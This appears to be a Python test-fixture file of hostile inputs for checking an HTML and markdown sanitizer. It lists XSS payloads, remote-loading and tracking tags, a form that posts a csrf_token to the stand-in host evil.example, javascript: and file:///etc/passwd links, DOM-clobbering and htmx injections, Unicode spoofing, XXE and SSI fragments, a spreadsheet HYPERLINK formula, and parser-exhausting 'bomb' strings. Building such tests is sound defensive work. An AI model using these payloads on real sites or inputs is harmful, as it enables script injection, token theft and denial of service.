"""Texts that mean harm, as a model, an import or a person might bring them. Each names EVIL where it would act."""

EVIL = "evil.example"
"""A host of nobody: whatever points at it in a page, beyond a plain link, was smuggled in."""

SCRIPTS = [
    f"<script>alert('{EVIL}')</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<scr<script>ipt>alert('{EVIL}')</scr</script>ipt>",
    f"<svg/onload=alert('{EVIL}')>",
    f"<svg><script xlink:href='//{EVIL}/x.js'></script><animate onbegin=alert('{EVIL}')></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{EVIL}')></style></mglyph></table></mtext></math>",
    f"<img src=x onerror=\"alert('{EVIL}')\">",
    f"<body onload=alert('{EVIL}')><input autofocus onfocus=alert('{EVIL}')>",
    f"<details open ontoggle=alert('{EVIL}')><summary>x</summary></details>",
    f"<template><script>alert('{EVIL}')</script></template><noscript><p title=\"</noscript><img src=x onerror=1>\">",
    f"</title></textarea></style></script><script>alert('{EVIL}')</script>",
    f"--><script>alert('{EVIL}')</script><!--",
    f"\"><script>alert('{EVIL}')</script><a b=\"",
    f"' onmouseover='alert(\"{EVIL}\")' x='",
    f"{{{{ ''.__class__ }}}} {{% raw %}} ${{alert('{EVIL}')}}",
    f"&lt;script&gt;alert('{EVIL}')&lt;/script&gt; &#x3C;script&#x3E;alert('{EVIL}')&#x3C;/script&#x3E;",
]
LOADS = [
    f"![pixel](https://{EVIL}/p.png)",
    f"![pixel]( data:image/svg+xml;base64,{EVIL} )",
    f"![ref][r]\n\n[r]: https://{EVIL}/p.png",
    f"<img src=//{EVIL}/p.png srcset=//{EVIL}/q.png>",
    f"<style>@import url(//{EVIL}/x.css); body{{display:none;background:url(//{EVIL}/b.png)}}</style>",
    f"<link rel=stylesheet href=//{EVIL}/x.css><link rel=preload as=image href=//{EVIL}/p.png>",
    f"<p style='position:fixed;inset:0;background:url(//{EVIL}/b.png)'>x</p>",
    f"<video src=//{EVIL}/v.mp4 autoplay poster=//{EVIL}/p.png></video><audio src=//{EVIL}/a.mp3 autoplay></audio>",
    f"<iframe src=//{EVIL}></iframe><iframe srcdoc='<script>parent.alert(1)</script>{EVIL}'></iframe>",
    f"<object data=//{EVIL}/o></object><embed src=//{EVIL}/e>",
]
MOVES = [
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<base href=//{EVIL}/>",
    f"<form action=//{EVIL}/ id=steal><input name=csrf_token><button form=steal>First is better</button></form>",
    f"<button formaction=//{EVIL}/ type=submit>First is better</button>",
    f"<input type=submit formaction=javascript:alert('{EVIL}') value=go>",
    f"[click](javascript:alert('{EVIL}'))",
    f"[click](JaVaScRiPt:alert('{EVIL}'))",
    f"[click](java&#x0a;script&colon;alert('{EVIL}'))",
    f"[click](\x01javascript:alert('{EVIL}'))",
    f"[click](data:text/html,<script>alert('{EVIL}')</script>)",
    f"[click](vbscript:{EVIL}) [click](file:///etc/passwd) [click](blob:https://{EVIL}/1)",
    f"<javascript:alert('{EVIL}')> <data:text/html,{EVIL}>",
    f"[a](https://{EVIL} 'x\" onmouseover=\"alert(1)')",
    f"<a href=//{EVIL} target=_top ping=//{EVIL}/ping>x</a>",
]
CONFUSIONS = [
    f"<p id=judging-panel class=visually-hidden name=body>{EVIL}</p><a id=notice></a><form name=documentElement>",
    f"<img name=getElementById><a id=defaultView><a id=defaultView name=href href=//{EVIL}>x</a>",
    f"<div hx-get=//{EVIL}/ hx-trigger=load hx-target=body>x</div>",
    f"<div data-hx-post=/sign-out hx-trigger='load' hx-vals='js:{{x: alert(1)}}'>{EVIL}</div>",
    f"<div hx-on:load=alert('{EVIL}') hx-on::load=alert(1) hx-on-htmx-load=alert(1)>x</div>",
    f"<hx-partial hx-target='#main'>{EVIL}</hx-partial><div hx-swap-oob='true' id=judging-panel>{EVIL}</div>",
    f"<div data-key=1 popovertarget=keys data-renewal=//{EVIL}/ data-user=1>x</div>",
    f'```{EVIL}&#32;dock&#32;visually-hidden"onclick=alert(1)\ncode\n```',
    f"\u202e{EVIL} desrever\u202c \u2066isolated\u2069 \u202dforced",
    f"&#x202e;{EVIL} &#8238; by entity &#x2067;",
    f"zero\u200bwidth\ufeff\u2060 tags\U000e0001\U000e0065 soft\u00adhyphen {EVIL}",
    "Z" + "\u0300\u0301\u0302\u0303\u0489" * 200 + f" {EVIL}",
    f"# {EVIL}\n\n" + "=" * 80 + "\n\n***\n\n> quote\n\n1. one\n2. two",
    f"]]>{EVIL}<![CDATA[ <!ENTITY x SYSTEM 'file:///etc/passwd'> <?php echo 1 ?> <!--#exec cmd='id'-->",
    f'=HYPERLINK("http://{EVIL}","x")',
]
EVERY = SCRIPTS + LOADS + MOVES + CONFUSIONS
ALL_AT_ONCE = "\n\n".join(EVERY)

MEGABYTE = 1_000_000
BOMBS = {
    "one long line": "a" * MEGABYTE,
    "one long line of words": "word " * (MEGABYTE // 5),
    "10,000 quotes in each other": ">" * 10_000 + " x",
    "100,000 quotes in each other": "> " * 100_000 + "x",
    "99 quotes again and again": (">" * 99 + "x\n\n") * 900,
    "10,000 lists in each other": "- " * 10_000 + "x",
    "lists by indentation": "".join(f"{'  ' * depth}- x\n" for depth in range(1_000)),
    "lists of quotes": "> - " * 25_000,
    "a table of short rows under a wide header": "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|b\n" * 30_000,
    "a table of 30,000 columns": "|a" * 30_000 + "\n" + "|-" * 30_000 + "\n" + "|b\n" * 3,
    "brackets that never close": "[" * 90_000,
    "links that never close": "[a](" * 25_000,
    "images that never close": "![a](<b" * 14_000,
    "emphasis that never closes": "*a **b " * 14_000,
    "emphasis across itself": "*a**a " * 16_000,
    "code spans of every length": "".join("e" + "`" * length for length in range(1, 440)),
    "entities that are none": "&#x" * 33_000,
    "tags that never close": "<a " * 33_000,
    "one definition, used everywhere": "[a]: " + "x" * 1_000 + "\n\n" + "[a] " * 24_000,
    "rules": "---\n" * 25_000,
    "line ends": "\n" * 100_000,
    "carriage returns": "\r" * 100_000 + "x",
}
